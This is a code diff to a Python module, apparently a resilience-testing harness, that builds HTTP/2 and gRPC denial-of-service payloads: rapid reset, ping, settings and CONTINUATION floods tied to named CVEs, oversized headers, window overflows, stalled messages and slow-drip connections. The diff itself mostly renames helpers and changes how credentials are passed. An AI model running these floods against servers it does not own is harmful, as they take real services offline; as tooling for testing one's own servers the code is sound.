@@ -65,7 +65,7 @@ def garbage_frames(_: Target, rng: random.Random) -> bytes:
             rng.randbytes(rng.choice((0, 1, 4, 5, 8, 100, 16_384, 20_000))),
         )  # fmt: skip
         frames.append(made[: rng.randint(9, len(made))] if rng.random() < 0.1 else made)
-    return _greeting() + b"".join(frames)
+    return greeting() + b"".join(frames)
 
 
 def settings_flood(_: Target, rng: random.Random) -> bytes:
@@ -75,39 +75,39 @@ def settings_flood(_: Target, rng: random.Random) -> bytes:
         for _ in range(3)
     ]
     few = http2.frame(http2.SETTINGS, 0, 0, rng.choice((b"", some[0], b"".join(some))))
-    return _greeting() + few * FRAMES
+    return greeting() + few * FRAMES
 
 
 def ping_flood(_: Target, rng: random.Random) -> bytes:
     """Each has to be answered (CVE-2019-9512)."""
-    return _greeting() + http2.frame(http2.PING, 0, 0, rng.randbytes(8)) * FRAMES
+    return greeting() + http2.frame(http2.PING, 0, 0, rng.randbytes(8)) * FRAMES
 
 
 def rapid_reset(target: Target, _: random.Random) -> bytes:
     """Streams that are opened and reset at once (CVE-2023-44487)."""
-    block = http2.call(_PATHS[target.name], target.token)
+    block = _call(target, _PATHS[target.name])
     frames = []
     for number in range(FRAMES):
         stream = 2 * number + 1
         frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
         frames.append(http2.frame(http2.RST_STREAM, 0, stream, (8).to_bytes(4)))
-    return _greeting() + b"".join(frames)
+    return greeting() + b"".join(frames)
 
 
 def many_streams(target: Target, _: random.Random) -> bytes:
     """Streams that are opened, and of which nothing more comes."""
-    block = http2.call(_PATHS[target.name], target.token)
-    return _greeting() + b"".join(
+    block = _call(target, _PATHS[target.name])
+    return greeting() + b"".join(
         http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, block)
         for number in range(FRAMES)
     )
 
 
-def anybody_s_streams(_: Target, __: random.Random) -> bytes:
+def anybody_s_streams(target: Target, __: random.Random) -> bytes:
     """Streams that need no token, and have no end: whoever watches the health."""
-    block = http2.call("/grpc.health.v1.Health/Watch", "")
+    block = http2.call("/grpc.health.v1.Health/Watch", scheme=_scheme(target))
     nothing = http2.message(b"")
-    return _greeting() + b"".join(
+    return greeting() + b"".join(
         http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, block)
         + http2.frame(http2.DATA, http2.END_STREAM, 2 * number + 1, nothing)
         for number in range(FRAMES)
@@ -116,37 +116,37 @@ def anybody_s_streams(_: Target, __: random.Random) -> bytes:
 
 def huge_headers(target: Target, rng: random.Random) -> bytes:
     """Fields over any limit, in one frame after the other."""
-    block = http2.call(_PATHS[target.name], target.token)
+    block = _call(target, _PATHS[target.name])
     block += http2.fields(tuple((b"x-%d" % i, b"y" * 15_000) for i in range(rng.randint(1, 40))))
-    return _greeting() + _headers_in_frames(block, ends=True)
+    return greeting() + _headers_in_frames(block, ends=True)
 
 
 def continuation_flood(target: Target, _: random.Random) -> bytes:
     """Headers that never end (CVE-2024-27316 and its like)."""
-    block = http2.call(_PATHS[target.name], target.token)
+    block = _call(target, _PATHS[target.name])
     more = http2.fields(((b"x", b"y" * 16_000),))
     flood = http2.frame(http2.CONTINUATION, 0, 1, more) * 400
-    return _greeting() + _headers_in_frames(block, ends=False) + flood
+    return greeting() + _headers_in_frames(block, ends=False) + flood
 
 
 def window_overflow(target: Target, _: random.Random) -> bytes:
     """Windows over their most, and of nothing."""
-    block = http2.call(_PATHS[target.name], target.token)
+    block = _call(target, _PATHS[target.name])
     update = http2.frame(http2.WINDOW_UPDATE, 0, 1, (0x7FFF_FFFF).to_bytes(4))
     nothing = http2.frame(http2.WINDOW_UPDATE, 0, 1, bytes(4))
     head = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
-    return _greeting() + head + update * 100 + nothing * 100
+    return greeting() + head + update * 100 + nothing * 100
 
 
 def wrong_lengths(target: Target, rng: random.Random) -> bytes:
     """Messages that promise another length than comes, or to be compressed."""
-    block = http2.call(_PATHS[target.name], target.token)
+    block = _call(target, _PATHS[target.name])
     promised = rng.choice((0, 1, 100, (16 << 20) + 1, 0xFFFF_FFFF))
     data = http2.message(rng.randbytes(50), promised=promised)
     if rng.random() < 0.3:
         data = b"\x01" + data[1:]
     return (
-        _greeting()
+        greeting()
         + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
         + http2.frame(http2.DATA, http2.END_STREAM, 1, data)
     )
@@ -169,11 +169,11 @@ async def attack(target: Target, name: str, rng: random.Random, connections: int
     async def one() -> None:
         found[await _send(target, ATTACKS[name](target, rng), tears=rng.random() < 0.3)] += 1
 
-    await _all([one] * connections)
+    await run_all([one] * connections)
     return found
 
 
-async def stall_messages(target: Target, token: str, connections: int, hold: asyncio.Event) -> int:
+async def stall_messages(target: Target, connections: int, hold: asyncio.Event) -> int:
     """Calls whose message of 15 MiB never comes to its end, until `hold` is set.
 
     Returns how many bytes the server took.
@@ -187,7 +187,7 @@ async def stall_messages(target: Target, token: str, connections: int, hold: asy
             windows = _Windows(STALLED_STREAMS)
             reading = asyncio.create_task(windows.follow(reader))
             try:
-                writer.write(_greeting() + _begin_messages(target, token))
+                writer.write(greeting() + _begin_messages(target))
                 while not hold.is_set() and not reading.done():
                     for number in range(STALLED_STREAMS):
                         size = windows.take(2 * number + 1)
@@ -199,14 +199,15 @@ async def stall_messages(target: Target, token: str, connections: int, hold: asy
             finally:
                 reading.cancel()
                 await asyncio.gather(reading, return_exceptions=True)
-                writer.close()
+                # What is not sent yet never is.
+                writer.transport.abort()
 
-    await _all([one] * connections)
+    await run_all([one] * connections)
     return taken
 
 
-def _begin_messages(target: Target, token: str) -> bytes:
-    block = http2.call(_READ_WHOLE[target.name], token)
+def _begin_messages(target: Target) -> bytes:
+    block = _call(target, _READ_WHOLE[target.name])
     # A byte of it stays away.
     first = http2.message(b"", promised=_STALLED_BYTES + 1)
     return b"".join(
@@ -270,8 +271,8 @@ async def keep_idle(target: Target, count: int, hold: asyncio.Event, opened: Cou
                 continue
             opened["open"] += 1
             if number % 2:
-                writer.write(_greeting())
-            reading = asyncio.create_task(_read_all(reader))
+                writer.write(greeting())
+            reading = asyncio.create_task(read_all(reader))
             try:
                 await asyncio.wait({reading, over}, return_when=asyncio.FIRST_COMPLETED)
                 opened["closed by it"] += reading.done()
@@ -290,8 +291,8 @@ async def keep_idle(target: Target, count: int, hold: asyncio.Event, opened: Cou
 
 async def drip(target: Target, count: int, hold: asyncio.Event) -> None:
     """Connections on which one byte comes each second, of what would be a call in the end."""
-    block = http2.call(_PATHS[target.name], target.token)
-    text = _greeting() + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
+    block = _call(target, _PATHS[target.name])
+    text = greeting() + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
 
     async def one(start: int) -> None:
         with suppress(OSError):
@@ -307,15 +308,24 @@ async def drip(target: Target, count: int, hold: asyncio.Event) -> None:
                     if hold.is_set():
                         return
             finally:
-                writer.close()
+                writer.transport.abort()
 
     async with asyncio.TaskGroup() as group:
         for number in range(count):
             group.create_task(one(number % len(text)))
 
 
-def _greeting() -> bytes:
+def greeting() -> bytes:
+    """How a client begins (RFC 9113, 3.4)."""
     return http2.PREFACE + http2.frame(http2.SETTINGS)
+
+
+def _scheme(target: Target) -> str:
+    return "http" if target.tls is None else "https"
+
+
+def _call(target: Target, path: str) -> bytes:
+    return http2.call(path, target.metadata, scheme=_scheme(target))
 
 
 def _headers_in_frames(block: bytes, *, ends: bool) -> bytes:
@@ -333,7 +343,7 @@ async def _send(target: Target, data: bytes, *, tears: bool) -> str:
         reader, writer = await connect(target)
     except OSError:
         return "refused"
-    reading = asyncio.create_task(_read_all(reader))
+    reading = asyncio.create_task(read_all(reader))
     result = "cut"
     try:
         writer.write(data)
@@ -356,13 +366,16 @@ async def _send(target: Target, data: bytes, *, tears: bool) -> str:
     return result
 
 
-async def _read_all(reader: asyncio.StreamReader) -> None:
+async def read_all(reader: asyncio.StreamReader) -> None:
+    """Until the other side closes, or breaks off."""
     with suppress(OSError):
         while await reader.read(65_536):
             pass
 
 
-async def _all(calls: list[Callable[[], Awaitable[None]]]) -> None:
+async def run_all(calls: list[Callable[[], Awaitable[None]]]) -> None:
+    """All of them at once."""
+
     async def run(call: Callable[[], Awaitable[None]]) -> None:
         await call()
 
